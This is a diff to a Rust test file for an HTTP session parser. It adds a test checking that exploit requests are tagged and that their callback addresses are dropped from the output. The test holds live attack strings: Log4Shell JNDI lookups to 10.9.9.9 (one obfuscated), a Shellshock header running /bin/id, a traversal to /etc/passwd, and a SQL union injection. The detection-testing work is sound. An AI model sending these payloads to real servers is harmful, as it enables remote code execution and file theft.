@@ -9,7 +9,7 @@ use crate::testing::{identity, output, play, rows, PlainRow};
 fn played(script: &[(Dir, &[u8])], stream: &str, cut: usize) -> Vec<PlainRow> {
     let mut got = play(&mut HttpSession::default(), script, cut).remove(stream).unwrap_or_default();
     // Times are those of the test's clock, which goes by parts.
-    for column in ["ts", "latency"] {
+    for column in ["ts", "latency", "duration"] {
         got.iter_mut().for_each(|row| drop(row.remove(column)));
     }
     got
@@ -450,4 +450,28 @@ fn what_is_no_start_line_does_not_become_one_with_more_bytes() {
         }
     }
     assert_eq!(first_line(lines[1]), Probe::Certain);
+}
+
+#[test]
+fn exploits_are_marked_and_not_kept() {
+    for (target, header, marks) in [
+        ("/a?x=$%7bjndi:ldap://10.9.9.9/zz%7d", "X-Api-Version: 1", "[exploit-log4shell]"),
+        ("/", "X-Api-Version: ${${lower:j}ndi:rmi://10.9.9.9/zz}", "[exploit-log4shell]"),
+        ("/", "User-Agent: () { :;}; /bin/id", "[exploit-shellshock]"),
+        (
+            "/images/../../../etc/passwd",
+            "Cookie: () { zz",
+            "[exploit-shellshock, exploit-traversal]",
+        ),
+        ("/a?q=1%20union%20select%20zz", "Accept: */*", "[exploit-sql]"),
+        ("/a?q=union", "Cookie: price=$5", "[]"),
+    ] {
+        let request = format!("GET {target} HTTP/1.1\r\nHost: x\r\n{header}\r\n\r\n");
+        let rows = http(&[
+            (Orig, request.as_bytes()),
+            (Resp, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"),
+        ]);
+        assert_eq!(rows[0]["marks"], marks, "{request}");
+        assert!(!format!("{rows:?}").contains("10.9.9.9"), "{rows:?}");
+    }
 }
